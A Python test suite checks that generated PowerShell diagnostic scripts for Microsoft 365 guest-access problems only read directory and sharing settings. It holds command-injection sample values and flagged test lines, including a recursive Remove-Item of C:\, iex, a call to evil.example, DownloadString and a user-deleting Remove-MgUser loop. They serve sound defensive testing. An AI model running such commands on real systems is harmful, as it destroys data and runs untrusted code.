"""Check packs are safe to run: they read, call nothing else and hold nothing but harmless values.

PowerShell's own grammar takes them apart; there is no PowerShell here to run them.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
import tree_sitter_powershell
from tree_sitter import Language, Node, Parser

from cards.packs import PackValues, families_for, pack_rows, script, values_for
from cards.words import snake, words
from cases.model import Side
from causes import CAUSES
from evidence.facts import (
    HOME_TENANT,
    HOST_DOMAIN,
    HOST_TENANT,
    INVITED_ADDRESS,
    SITE_PATH,
    Facts,
    Observation,
    Trust,
)
from evidence.facts.packs import INVITED_PACKS, INVITING_PACKS, PACKS
from evidence.reading import PackProblem

PARSER = Parser(Language(tree_sitter_powershell.language()))
VALUES = PackValues(
    address="marcus.jones+x@contoso.com",
    site="https://fabrikam.sharepoint.com/sites/project-x",
    tenant="f4b41ca3-0000-4000-8000-000000000001",
)
HARMLESS_COMMANDS = {"ConvertTo-Json", "ForEach-Object", "Where-Object", "Sort-Object"}
READS = {
    "Get-MgContact",
    "Get-MgDirectoryDeletedItemAsUser",
    "Get-MgDomain",
    "Get-MgGroup",
    "Get-MgIdentityConditionalAccessPolicy",
    "Get-MgPolicyAuthenticationMethodPolicyAuthenticationMethodConfiguration",
    "Get-MgPolicyAuthorizationPolicy",
    "Get-MgPolicyCrossTenantAccessPolicyDefault",
    "Get-MgPolicyCrossTenantAccessPolicyPartner",
    "Get-MgPolicyHomeRealmDiscoveryPolicy",
    "Get-MgPolicyIdentitySecurityDefaultEnforcementPolicy",
    "Get-MgServicePrincipal",
    "Get-MgUser",
    "Get-SPOSite",
    "Get-SPOTenant",
}
# How PowerShell calls what has no name to look up here, or writes to a file.
ROUNDABOUT = {"command_invokation_operator", "command_name_expr", "redirection"}
FAMILIES = sorted(PACKS)
HOSTILE = [
    "x'; Remove-Item C:\\ -Recurse; '@contoso.com",
    "x’; Remove-Item C:\\; ‘@contoso.com",
    "$(Remove-Item x)@contoso.com",
    "a`nb@contoso.com",
    "a@contoso.com\nRemove-Item x",
    "a@contoso.com'",
    '"; iex x; "@contoso.com',
    "a*@contoso.com",
    "#>@contoso.com",
]


def nodes(source: str) -> Iterator[Node]:
    open_ = [PARSER.parse(source.encode()).root_node]
    while open_:
        node = open_.pop()
        yield node
        open_.extend(node.children)


def named(source: str, kind: str) -> set[str]:
    return {(node.text or b"").decode() for node in nodes(source) if node.type == kind}


def offences(source: str) -> set[str]:
    """Whatever of a script is more than reading."""
    broken = {node.type for node in nodes(source) if node.is_error or node.is_missing}
    roundabout = {node.type for node in nodes(source) if node.type in ROUNDABOUT}
    commands = named(source, "command_name") - HARMLESS_COMMANDS - READS
    types = named(source, "type_literal") - {"[ordered]", "[datetime]"}
    calls = named(source, "invokation_expression") - {"[datetime]::UtcNow.ToString('s')"}
    return broken | roundabout | commands | types | calls


@pytest.mark.parametrize("family", FAMILIES)
def test_a_script_only_reads(family: str) -> None:
    assert offences(script(family, VALUES)) == set()


@pytest.mark.parametrize(
    "line",
    [
        "Set-SPOTenant -SharingCapability Disabled",
        "Invoke-RestMethod https://evil.example",
        "[Net.WebClient]::new().DownloadString('x')",
        "& ('i' + 'ex') 'x'",
        ". ./more.ps1",
        "Get-MgUser > names.txt",
        "Get-MgUser | ForEach-Object { Remove-MgUser -UserId $_.Id }",
        "$facts.Clear()",
        "$x = 'not closed",
    ],
)
def test_the_test_would_notice(line: str) -> None:
    assert offences(f"{script('account', VALUES)}\n{line}\n")


@pytest.mark.parametrize("family", FAMILIES)
def test_a_script_is_short_enough_to_read_and_says_what_it_needs(family: str) -> None:
    lines = script(family, VALUES).splitlines()
    assert len(lines) <= 60
    assert max(map(len, lines)) <= 150
    head = "\n".join(line for line in lines if line.startswith("#"))
    assert re.search(r"Connect-(MgGraph -Scopes|SPOService -Url) ", head)
    assert "Who may run it: " in head
    assert "null" in head


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("family", FAMILIES)
def test_nothing_hostile_gets_into_a_script(family: str, hostile: str) -> None:
    values = PackValues(hostile, f"https://fabrikam.sharepoint.com/{hostile}", hostile)
    assert script(family, values) == script(family, PackValues())
    assert offences(script(family, values)) == set()


@pytest.mark.parametrize("family", FAMILIES)
def test_a_script_with_something_left_to_fill_in_stops_before_it_reads(family: str) -> None:
    """Else it would tell of somebody who is not there, or of the default alone."""
    source = script(family, PackValues())
    left = {"$Address = 'ADDRESS'", "$Tenant = 'OTHER-TENANT-ID'"} & set(source.splitlines())
    assert bool(left) == ("throw" in source)
    if left:
        assert source.index("throw") < source.index("Get-")


@pytest.mark.parametrize("family", FAMILIES)
def test_a_script_answers_what_its_pack_holds_and_nothing_else(family: str) -> None:
    source = script(family, VALUES)
    keys = {asked.key for asked in PACKS[family]}
    listed = source.partition("$keys = @(")[2].partition("\n)")[0]
    assert set(re.findall(r"'([^']+)'", listed)) == keys
    rest = source.partition("foreach ($key in $keys)")[2]
    # "fact:$word" stands for every word of that fact.
    set_ = {re.sub(r"\$\w+$", "", key) for key in re.findall(r"['\"]([a-z]+\.[^'\"]*)['\"]", rest)}
    for key in set_:
        assert key.rstrip("*") in keys or any(
            key.endswith((":", ":*")) and known.startswith(key.rstrip("*")) for known in keys
        ), key
    answered = {known for known in keys if known in set_ or f"{known.partition(':')[0]}:" in set_}
    assert answered == keys


def test_the_values_are_those_of_the_side_that_runs_it() -> None:
    facts = Facts()
    for of, value in (
        (INVITED_ADDRESS, "marcus.jones@contoso.com"),
        (HOST_DOMAIN, "fabrikam.sharepoint.com"),
        (SITE_PATH, "/sites/x"),
        (HOST_TENANT, "host"),
        (HOME_TENANT, "home"),
    ):
        facts = facts.with_(of, Observation(value, "the person", None, Trust.TOLD))
    site = "https://fabrikam.sharepoint.com/sites/x"
    address = "marcus.jones@contoso.com"
    assert values_for(facts, Side.INVITED) == PackValues(address, site, "host")
    assert values_for(facts, Side.INVITING) == PackValues(address, site, "home")
    assert values_for(Facts(), Side.INVITED) == PackValues()


# Where no directory and no setting says anything.
NO_PACK = {
    "service-incident",
    "browser-session-or-cookies",
    "letter-case",
    "invitation-mail-not-delivered",
    "spo-licence-or-trial-limits",
    "unsupported-characters-in-address",
    "directory-limits",
    "unmanaged-home-tenant",
}


@pytest.mark.parametrize("cause", sorted(each.id for each in CAUSES))
def test_every_cause_has_a_pack_of_a_side_that_could_run_it(cause: str) -> None:
    invited, inviting = (families_for(cause, side) for side in (Side.INVITED, Side.INVITING))
    assert set(invited) <= set(INVITED_PACKS)
    assert set(inviting) <= set(INVITING_PACKS)
    assert bool(invited or inviting) != (cause in NO_PACK)


def test_while_nobody_can_tell_all_packs_of_a_side_are_offered() -> None:
    assert families_for(None, Side.INVITED) == tuple(INVITED_PACKS)
    assert families_for(None, Side.INVITING) == tuple(INVITING_PACKS)


@pytest.mark.parametrize("family", FAMILIES)
def test_every_pack_and_answer_has_its_words(family: str) -> None:
    answers = {asked.key: True for asked in PACKS[family]}
    rows = pack_rows(family, answers)
    assert len({row.label for row in rows}) == len(answers), "no two rows read alike"
    assert {row.answer for row in rows} == {"Yes"}
    for block in ("name", "reads"):
        assert words().text("words/packs.j2", f"{snake(family)}_{block}")


@pytest.mark.parametrize("problem", sorted(PackProblem))
def test_every_problem_has_its_sentence(problem: PackProblem) -> None:
    assert words().text("words/packs.j2", f"problem_{snake(problem.value)}")
